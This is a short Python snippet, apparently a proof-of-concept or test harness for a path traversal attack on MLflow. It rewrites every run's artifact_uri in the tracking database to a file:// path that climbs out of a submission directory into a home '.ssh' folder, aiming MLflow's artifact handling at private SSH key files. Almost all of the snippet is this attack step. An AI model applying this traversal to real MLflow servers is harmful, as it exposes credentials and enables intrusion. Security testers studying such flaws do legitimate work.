import sqlite3

with sqlite3.connect("mlflow.db") as store:
    store.execute("update runs set artifact_uri = ?", (f"file://{world.submission}/../../home/.ssh",))
import mlflow

mlflow.set_experiment("another")
